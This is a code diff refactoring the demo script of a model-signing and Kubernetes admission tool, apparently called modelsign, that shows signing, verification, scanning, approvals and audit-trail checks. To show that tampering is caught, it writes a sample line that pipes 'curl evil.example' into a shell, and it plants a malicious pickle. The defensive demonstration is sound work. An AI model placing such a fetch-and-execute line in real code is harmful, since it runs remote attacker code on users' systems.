@@ -26,15 +26,14 @@ import subprocess
 import sys
 import tempfile
 import time
+from functools import partial
 from pathlib import Path
+from typing import Callable
 
 import httpx
 
-from signer.scanning import now_rfc3339
+from signer import LayoutRepository, now_rfc3339, pack_modelkit, push_image, push_index
 
-from signer.kitpack import pack_modelkit
-from signer.oci.layout import LayoutRepository
-from signer.samples import push_image, push_index
 
 DEMO_PASSWORD = "modelsign-demo"
 
@@ -43,11 +42,13 @@ class DemoFailure(Exception):
     pass
 
 
-def _run(argv: list[str], expect: int) -> None:
-    from webhook.cli import main
+Command = Callable[[list[str]], int]  # one `modelsign` command line, run in-process
+Run = Callable[[list[str], int], None]  # ... and the exit code it must end with
 
+
+def _run(command: Command, argv: list[str], expect: int) -> None:
     print(f"\n$ modelsign {shlex.join(argv)}", flush=True)
-    code = main(argv)
+    code = command(argv)
     print(f"[exit {code}]", flush=True)
     if code != expect:
         raise DemoFailure(f"`modelsign {shlex.join(argv)}` exited {code}, expected {expect}")
@@ -79,13 +80,15 @@ def _kitfile(version: str) -> dict:
     }
 
 
-def run_demo(workdir: Path | None) -> int:
+def run_demo(workdir: Path | None, command: Command) -> int:
+    """`command` runs a `modelsign` command line: the composition root (webhook/cli.py) hands in
+    its `main`, so the demo never imports it."""
     os.environ.setdefault("MODELSIGN_PASSWORD", DEMO_PASSWORD)
     with contextlib.ExitStack() as stack:
         base = workdir or Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="modelsign-demo-")))
         base.mkdir(parents=True, exist_ok=True)
         try:
-            _demo(base.resolve())
+            _demo(base.resolve(), partial(_run, command))
         except DemoFailure as exc:
             print(f"\nDEMO FAILED: {exc}")
             return 1
@@ -93,18 +96,18 @@ def run_demo(workdir: Path | None) -> int:
     return 0
 
 
-def _demo(base: Path) -> None:
-    _signing_demo(base)
-    _admission_demo(base)
-    _gates_demo(base)
+def _demo(base: Path, run: Run) -> None:
+    _signing_demo(base, run)
+    _admission_demo(base, run)
+    _gates_demo(base, run)
 
 
-def _signing_demo(base: Path) -> None:
+def _signing_demo(base: Path, run: Run) -> None:
     store = base / "store"
     os.chdir(base)
     _step("1. Key pairs (cosign's encrypted key format; password from MODELSIGN_PASSWORD)")
-    _run(["keygen", "--output-prefix", "ml-team", "--force"], 0)
-    _run(["keygen", "--output-prefix", "intruder", "--force"], 0)
+    run(["keygen", "--output-prefix", "ml-team", "--force"], 0)
+    run(["keygen", "--output-prefix", "intruder", "--force"], 0)
 
     _step("2. Artifacts in a local OCI image layout: a KitOps ModelKit, an image, a multi-arch index")
     repository = LayoutRepository(store, create=True)
@@ -117,30 +120,30 @@ def _signing_demo(base: Path) -> None:
     print(f"ModelKit llm:1.0 -> {kit.digest}\nimage server:1.0 -> {amd64.digest}\nindex server-multiarch -> {index.digest}")
 
     _step("3. Sign the ModelKit (legacy .sig and sigstore bundle) and the index")
-    _run(["sign", f"oci:{store}:llm-1.0", "--key", "ml-team.key", "--format", "both", "-a", "stage=prod"], 0)
-    _run(["sign", f"oci:{store}:server-multiarch", "--key", "ml-team.key"], 0)
+    run(["sign", f"oci:{store}:llm-1.0", "--key", "ml-team.key", "--format", "both", "-a", "stage=prod"], 0)
+    run(["sign", f"oci:{store}:server-multiarch", "--key", "ml-team.key"], 0)
 
     _step("4. Verify: trusted key passes; another key, a missing annotation and an unsigned image fail")
-    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=prod"], 0)
-    _run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub", "--output", "json"], 0)
-    _run(["verify", f"oci:{store}:llm-1.0", "--key", "intruder.pub"], 1)
-    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=dev"], 1)
-    _run(["verify", f"oci:{store}:server-multiarch", "--key", "ml-team.pub"], 0)
-    _run(["verify", f"oci:{store}:server-1.0", "--key", "ml-team.pub"], 1)
+    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=prod"], 0)
+    run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub", "--output", "json"], 0)
+    run(["verify", f"oci:{store}:llm-1.0", "--key", "intruder.pub"], 1)
+    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=dev"], 1)
+    run(["verify", f"oci:{store}:server-multiarch", "--key", "ml-team.pub"], 0)
+    run(["verify", f"oci:{store}:server-1.0", "--key", "ml-team.pub"], 1)
 
     _step("5. Attack: re-point the signed tag at a different ModelKit")
     _write_model(context, os.urandom(256 * 1024))
     pack_modelkit(repository, context, _kitfile("1.0"), tag="llm-1.0")
-    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub"], 1)
-    _run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub"], 0)
+    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub"], 1)
+    run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub"], 0)
 
     _step("6. A model directory, signed in the OpenSSF model signing format")
     model_dir = base / "my-model"
     _write_model(model_dir, os.urandom(512 * 1024))
-    _run(["sign", "./my-model", "--key", "ml-team.key"], 0)
-    _run(["verify", "./my-model", "--key", "ml-team.pub", "--signature", "./my-model.sig"], 0)
+    run(["sign", "./my-model", "--key", "ml-team.key"], 0)
+    run(["verify", "./my-model", "--key", "ml-team.pub", "--signature", "./my-model.sig"], 0)
     (model_dir / "code" / "predict.py").write_text("import os\nos.system('curl evil.example | sh')\n")
-    _run(["verify", "./my-model", "--key", "ml-team.pub"], 1)
+    run(["verify", "./my-model", "--key", "ml-team.pub"], 1)
 
 
 DEMO_REGISTRY = "registry.demo.local"
@@ -191,7 +194,7 @@ def _start_webhook(base: Path, policy: Path) -> tuple[subprocess.Popen, str, Pat
     raise DemoFailure("the webhook did not become ready within 30 s")
 
 
-def _admission_demo(base: Path) -> None:
+def _admission_demo(base: Path, run: Run) -> None:
     _step("7. A model registry served from local OCI layouts: one signed ModelKit, one unsigned")
     registry = base / "registry"
     for name, signed in (("llm", True), ("rogue", False)):
@@ -201,11 +204,11 @@ def _admission_demo(base: Path) -> None:
         kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
         print(f"kit://{DEMO_REGISTRY}/models/{name}:1.0 -> {kit.digest}{'' if signed else ' (unsigned)'}")
         if signed:
-            _run(["sign", f"oci:{registry}/models/{name}:1.0", "--key", "ml-team.key"], 0)
+            run(["sign", f"oci:{registry}/models/{name}:1.0", "--key", "ml-team.key"], 0)
 
     _step("8. TLS material, the audit key and the admission policy")
-    _run(["keygen", "--output-prefix", "audit-signing", "--force"], 0)
-    _run(["certs", "generate", "--service", "modelsign-webhook", "--namespace", "modelsign-system", "--out", str(base / "certs"), "--san", "127.0.0.1", "--force"], 0)
+    run(["keygen", "--output-prefix", "audit-signing", "--force"], 0)
+    run(["certs", "generate", "--service", "modelsign-webhook", "--namespace", "modelsign-system", "--out", str(base / "certs"), "--san", "127.0.0.1", "--force"], 0)
     policy = base / "policy.yaml"
     policy.write_text(
         "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo}\nmode: enforce\n"
@@ -221,7 +224,7 @@ def _admission_demo(base: Path) -> None:
         print("\nGET /metrics (excerpt)")
         print("\n".join(line for line in client.get("/metrics").text.splitlines() if line.startswith("modelsign_admission_decisions_total")))
     _step("10. The same decision before `kubectl apply`")
-    _run(["check", "-f", str(_manifests(base, ("llm", "rogue"))), "--config", str(policy)], 1)
+    run(["check", "-f", str(_manifests(base, ("llm", "rogue"))), "--config", str(policy)], 1)
 
 
 @contextlib.contextmanager
@@ -274,30 +277,30 @@ def _trivy_arguments(base: Path) -> list[str]:
     return ["--from-report", str(report)]
 
 
-def _gates_demo(base: Path) -> None:
+def _gates_demo(base: Path, run: Run) -> None:
     registry = base / "registry"
     _step("11. Scanner and approver keys; a signed ModelKit that hides a malicious pickle")
-    _run(["keygen", "--output-prefix", "scanner", "--force"], 0)
-    _run(["keygen", "--output-prefix", "approver", "--force"], 0)
+    run(["keygen", "--output-prefix", "scanner", "--force"], 0)
+    run(["keygen", "--output-prefix", "approver", "--force"], 0)
     repository = LayoutRepository(registry / "models" / "evil", create=True)
     context = base / "evil-src"
     _write_model(context, os.urandom(64 * 1024))
     (context / "model" / "pytorch_model.bin").write_bytes(_EVIL_PICKLE)
     kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
     print(f"kit://{DEMO_REGISTRY}/models/evil:1.0 -> {kit.digest} (signed, but model/pytorch_model.bin calls os.system)")
-    _run(["sign", f"oci:{registry}/models/evil:1.0", "--key", "ml-team.key"], 0)
+    run(["sign", f"oci:{registry}/models/evil:1.0", "--key", "ml-team.key"], 0)
 
     _step("12. Scan both (trivy + the model-file check) and attach signed scan attestations")
     trivy = _trivy_arguments(base)
     for name in ("llm", "evil"):
-        _run(["scan", f"oci:{registry}/models/{name}:1.0", "--key", "scanner.key", *trivy], 0)
-    _run(["verify-attestation", f"oci:{registry}/models/llm:1.0", "--key", "scanner.pub", "--type", "vuln"], 0)
+        run(["scan", f"oci:{registry}/models/{name}:1.0", "--key", "scanner.key", *trivy], 0)
+    run(["verify-attestation", f"oci:{registry}/models/llm:1.0", "--key", "scanner.pub", "--type", "vuln"], 0)
 
     _step("13. Approve the clean ModelKit for prod (expiring, with a ticket); list approvals")
     for name in ("llm", "evil"):
-        _run(["approve", f"oci:{registry}/models/{name}:1.0", "--key", "approver.key", "--environment", "prod", "--namespace", "ml-*",
+        run(["approve", f"oci:{registry}/models/{name}:1.0", "--key", "approver.key", "--environment", "prod", "--namespace", "ml-*",
               "--expires", "7d", "--ticket", "CHG-1234", "--reason", "offline eval passed", "--requester", "data-scientist", "--approver", "mlops-lead"], 0)
-    _run(["approvals", "list", f"oci:{registry}/models/llm:1.0", "--key", "approver.pub"], 0)
+    run(["approvals", "list", f"oci:{registry}/models/llm:1.0", "--key", "approver.pub"], 0)
 
     _step("14. A policy that also requires a fresh clean scan and a prod approval")
     policy = base / "policy-gated.yaml"
@@ -315,19 +318,19 @@ def _gates_demo(base: Path) -> None:
         _admit(client, (("llm", True), ("evil", False)))
 
     _step("15. Revoke the approval: the next check denies it")
-    _run(["revoke", f"oci:{registry}/models/llm:1.0", "--key", "approver.key", "--environment", "prod", "--ticket", "CHG-1300", "--reason", "bias found"], 0)
-    _run(["check", "-f", str(_manifests(base, ("llm",))), "--config", str(policy)], 1)
-    _audit_demo(base)
+    run(["revoke", f"oci:{registry}/models/llm:1.0", "--key", "approver.key", "--environment", "prod", "--ticket", "CHG-1300", "--reason", "bias found"], 0)
+    run(["check", "-f", str(_manifests(base, ("llm",))), "--config", str(policy)], 1)
+    _audit_demo(base, run)
 
 
-def _audit_demo(base: Path) -> None:
+def _audit_demo(base: Path, run: Run) -> None:
     _step("16. The audit trail both webhook runs wrote: verify it, export the auditors' report")
     checkpoints = ["--checkpoints", "audit-checkpoints/audit.checkpoints.jsonl"]
-    _run(["audit", "verify", "audit", *checkpoints], 1)  # without the audit key nothing is verified: UNVERIFIED, exit 1
-    _run(["audit", "verify", "audit", "--key", "audit-signing.pub", *checkpoints], 0)
-    _run(["audit", "export", "audit", "--format", "html", "--format", "pdf", "--format", "csv", "-o", "audit-report",
+    run(["audit", "verify", "audit", *checkpoints], 1)  # without the audit key nothing is verified: UNVERIFIED, exit 1
+    run(["audit", "verify", "audit", "--key", "audit-signing.pub", *checkpoints], 0)
+    run(["audit", "export", "audit", "--format", "html", "--format", "pdf", "--format", "csv", "-o", "audit-report",
           "--key", "audit-signing.pub", "--signing-key", "audit-signing.key", *checkpoints], 0)
-    _run(["audit", "verify-export", "audit-report/manifest.json", "--key", "audit-signing.pub"], 0)
+    run(["audit", "verify-export", "audit-report/manifest.json", "--key", "audit-signing.pub"], 0)
     print(f"\nOpen {base / 'audit-report' / 'report.html'} in a browser (or report.pdf).")
 
     _step("17. Tamper with a copy of the trail: delete one decision record")
@@ -336,4 +339,4 @@ def _audit_demo(base: Path) -> None:
     lines = chain.read_bytes().split(b"\n")
     victim = next(i for i, line in enumerate(lines) if b'"type":"decision"' in line)
     chain.write_bytes(b"\n".join(lines[:victim] + lines[victim + 1:]))
-    _run(["audit", "verify", "audit-tampered", "--key", "audit-signing.pub", *checkpoints], 1)
+    run(["audit", "verify", "audit-tampered", "--key", "audit-signing.pub", *checkpoints], 1)
